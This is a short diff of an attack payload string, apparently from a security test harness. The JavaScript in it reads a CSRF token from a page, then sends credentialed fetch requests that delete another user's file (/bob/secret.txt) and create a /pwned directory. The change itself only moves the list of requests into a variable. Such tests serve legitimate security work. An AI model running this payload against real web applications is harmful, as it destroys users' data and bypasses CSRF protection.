@@ -47,7 +47,8 @@ ATTACK = """
     if (m && m[1]) csrf = m[1];
     out.push("page:" + (m ? m[1] : "none"));
   } catch (e) { out.push("page:failed"); }
-  for (const [path, body] of [["/api/v1/fs/delete", {path: "/bob/secret.txt"}], ["/api/v1/fs/mkdir", {path: "/pwned"}]]) {
+  const changes = [["/api/v1/fs/delete", {path: "/bob/secret.txt"}], ["/api/v1/fs/mkdir", {path: "/pwned"}]];
+  for (const [path, body] of changes) {
     try {
       const r = await fetch(path, {method: "POST", credentials: "include", body: JSON.stringify(body),
                                    headers: {"Content-Type": "application/json", "X-CSRF-Token": csrf}});
